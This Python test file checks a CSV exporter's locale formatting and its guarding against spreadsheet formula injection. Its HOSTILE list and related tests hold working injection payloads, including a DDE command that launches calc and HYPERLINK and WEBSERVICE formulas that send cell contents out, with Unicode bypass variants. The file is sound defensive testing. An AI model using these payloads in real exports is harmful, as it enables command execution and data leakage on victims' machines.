"""Tables as CSV: whole, quoted, in the signs of their language, and safe to open in a spreadsheet."""

import csv
import io
import unicodedata
from datetime import date, time
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ikm_domain.errors import ValidationFailed
from ikm_domain.io.csv_text import guarded, unguarded
from ikm_domain.values.identifiers import NIK
from ikm_domain.values.money import Money
from ikm_domain.values.people import Sex
from ikm_domain.values.periods import Period
from ikm_domain.values.places import BpsRegion, Region
from ikm_domain.values.tables import Cell, Column, Table
from tests.contract.samples import NIK_TEXT


def written(cell: Cell, locale: str = "id") -> str:
    """The line of a table of one cell."""
    return Table(["value"], [[cell]], locale=locale).to_csv(bare=True).split("\r\n", 1)[1].removesuffix("\r\n")


def read(text: str, delimiter: str = ";") -> list[list[str]]:
    """The cells, by the reader of the standard library."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


# Values


@pytest.mark.parametrize(
    ("cell", "indonesian", "english"),
    [
        (None, "", ""),
        ("Siti", '"Siti"', '"Siti"'),
        (True, '"ya"', '"yes"'),
        (12_480, "12480", "12480"),
        (-3, "-3", "-3"),
        (Decimal("-1250.50"), "-1250,50", "-1250.50"),
        (Fraction(15, 2), "7,50", "7.50"),
        (Fraction(2, 3), "0,67", "0.67"),
        (Fraction(4, 2), "2", "2"),
        (date(2020, 2, 27), "2020-02-27", "2020-02-27"),
        (time(9, 0), "09:00", "09:00"),
        (time(9, 0, 5), "09:00:05", "09:00:05"),
        (Sex.FEMALE, '"perempuan"', '"female"'),
        (Money.idr(1_500_000), '"Rp1.500.000"', '"IDR\u00a01,500,000"'),
        (Money.idr(-5), '"\'-Rp5"', '"\'-IDR\u00a05"'),
        (Period("2019"), '"tahun 2019"', '"2019"'),
        (Region("19.71"), '"Kota Pangkal Pinang"', '"Kota Pangkal Pinang"'),
        (BpsRegion("1971"), '"1971"', '"1971"'),
        (NIK(NIK_TEXT), '"19**************"', '"19**************"'),
    ],
    ids=repr,
)
def test_a_value_is_written_in_the_signs_of_the_language(cell: Cell, indonesian: str, english: str) -> None:
    assert written(cell) == indonesian
    assert written(cell, "en") == english


def test_a_decimal_sign_is_never_taken_for_the_delimiter() -> None:
    text = Table(["a", "b"], [[Decimal("2.5"), Fraction(1, 2)]]).to_csv(delimiter=",")

    assert read(text, ",")[1] == ["2,5", "0,50"]


# The text


def test_a_table_is_lines_of_as_many_fields_each_ended_by_cr_and_lf() -> None:
    table = Table(
        ["name", Column("n", 'Jumlah "unit"')],
        [["Siti\r\nAminah", 1], ['a "b"; c', None]],
        title="Daftar hadir\nBimtek",
        notes=["Satu.\nDua.", "Tiga."],
    )

    assert table.to_csv() == (
        '"Daftar hadir";\r\n"Bimtek";\r\n;\r\n'
        '"Nama";"Jumlah ""unit"""\r\n"Siti\nAminah";1\r\n"a ""b""; c";\r\n'
        ';\r\n"Satu.";\r\n"Dua.";\r\n"Tiga.";\r\n'
    )
    assert {len(row) for row in read(table.to_csv())} == {2}
    assert table.to_csv(bare=True) == '"Nama";"Jumlah ""unit"""\r\n"Siti\nAminah";1\r\n"a ""b""; c";\r\n'


@pytest.mark.parametrize(("locale", "sign"), [("id", ";"), ("en", ",")])
def test_the_delimiter_is_the_one_that_spreadsheets_of_the_language_expect(locale: str, sign: str) -> None:
    table = Table(["a", "b"], [[1, 2]], locale=locale)

    assert table.to_csv() == f'"a"{sign}"b"\r\n1{sign}2\r\n'
    assert table.to_csv(delimiter="\t") == '"a"\t"b"\r\n1\t2\r\n'


@pytest.mark.parametrize("delimiter", ["", ";;", "|", "'", 5, ["x"]])
def test_another_delimiter_is_refused(delimiter: Any) -> None:
    with pytest.raises(ValidationFailed) as failed:
        Table(["a"]).to_csv(delimiter=delimiter)
    assert [(str(issue.path), issue.code) for issue in failed.value.issues] == [("delimiter", "code.unknown")]


def test_a_file_made_by_path_begins_with_the_mark_by_which_excel_knows_utf_8(tmp_path: Path) -> None:
    table = Table(["name"], [["Ni Kadék"]])

    for target in (tmp_path / "a.csv", str(tmp_path / "b.csv")):
        table.to_csv(target)
        assert Path(target).read_bytes() == b'\xef\xbb\xbf"Nama"\r\n"Ni Kad\xc3\xa9k"\r\n'


def test_an_open_file_gets_the_text_alone() -> None:
    file = io.StringIO(newline="")
    Table(["name"], [["Siti"]]).to_csv(file)
    assert file.getvalue() == '"Nama"\r\n"Siti"\r\n'


@pytest.mark.parametrize("target", [5, b"a.csv", ["a.csv"], io.BytesIO()])
def test_what_is_neither_a_path_nor_a_file_is_refused(target: Any) -> None:
    with pytest.raises(ValidationFailed) as failed:
        Table(["a"]).to_csv(target)
    assert [(str(issue.path), issue.code) for issue in failed.value.issues] == [("target", "field.type")]


# What must not run


HOSTILE = [
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+62 812-0000-0000",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"klik")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tSiti",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "−1+1",
    "\x00=1+1",
    "\u202e=1+1",
]


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_text_that_would_run_has_an_apostrophe_before_it(text: str) -> None:
    table = Table([Column("name", "=A1")], [[text]], title="=1+1", notes=["@SUM(1)"])
    title, _, head, (cell,), _, (note,) = read(table.to_csv())

    assert (title, head, note) == (["'=1+1"], ["'=A1"], "'@SUM(1)")
    assert cell.startswith("'")
    assert "".join(c if unicodedata.category(c) != "Cc" else " " for c in cell[1:])[-3:] in text


@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d"])
def test_a_formula_behind_a_delimiter_does_not_run_where_a_file_is_read_with_another_one(
    separator: str, sign: str
) -> None:
    text = f"Siti{separator}{sign}WEBSERVICE(A1){separator}x"

    assert written(text) == f'"Siti{separator}\'{sign}WEBSERVICE(A1){separator}x"'
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "Siti Aminah",
        "'Aisyah",
        "-",
        "--",
        " - ",
        "12",
        "0",
        "2020",
        "A-1",
        "Rp1.500.000,-",
        "a, -b",
        "SK 12/2020",
        "e-Smart = IKM",
        "siti@example.org",
        "75,0%",
        "Satu.\n- Dua\n- Tiga",
        "",
    ],
    ids=ascii,
)
def test_text_that_neither_runs_nor_is_damaged_stays_as_it_is(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@pytest.mark.parametrize(
    "text",
    [
        NIK_TEXT,
        "081200000000",
        "007",
        "19.10",
        "1E5",
        "1/2",
        "2-3",
        "03/04/2020",
        "1.500",
        "12:30",
        "999999999999",
        "\uff11\uff12",
    ],
)
def test_digits_that_a_spreadsheet_would_change_have_an_apostrophe_before_them(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


def test_twelve_digits_are_the_first_that_a_spreadsheet_shows_in_another_way() -> None:
    assert guarded("99999999999") == "99999999999"
    assert guarded("999999999999") == "'999999999999"


def test_a_sign_before_what_cannot_be_printed_is_guarded_too() -> None:
    assert written("=\x1f") == '"\'=\ufffd"'


def test_what_cannot_be_printed_is_replaced_and_leaves_the_rest() -> None:
    assert written("Si\x00ti\x1b\ud800!") == '"Si\ufffdti\ufffd\ufffd!"'
    Table(["a"], [["\ud800"]]).to_csv(bare=True).encode()


TEXTS = st.text(st.sampled_from("=+-@\uff1d−'\" \t\n,;(|!ab09.:/E\ufeff\u200b") | st.characters())


@given(TEXTS)
def test_what_was_guarded_is_read_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(TEXTS, st.sampled_from([",", ";", "\t"]))
def test_a_cell_comes_out_of_the_text_whole_and_begins_with_no_sign(text: str, delimiter: str) -> None:
    rows = read(Table(["a", "b"], [[text, 1]]).to_csv(delimiter=delimiter), delimiter)

    assert len(rows) == 2
    first = rows[1][0].lstrip(' \u00a0\ufeff\u200b"')
    assert first[:1] not in ("=", "+", "@", "\uff1d", "\t") or not first.strip("=+-@\uff1d− \n\t'\"\ufeff\u200b")


def test_long_hostile_text_takes_no_longer_than_its_length() -> None:
    for piece in (",=", " ", "'", "\n", "1", "=(", ";'=("):
        text = piece * 100_000
        assert unguarded(guarded(text)) == text
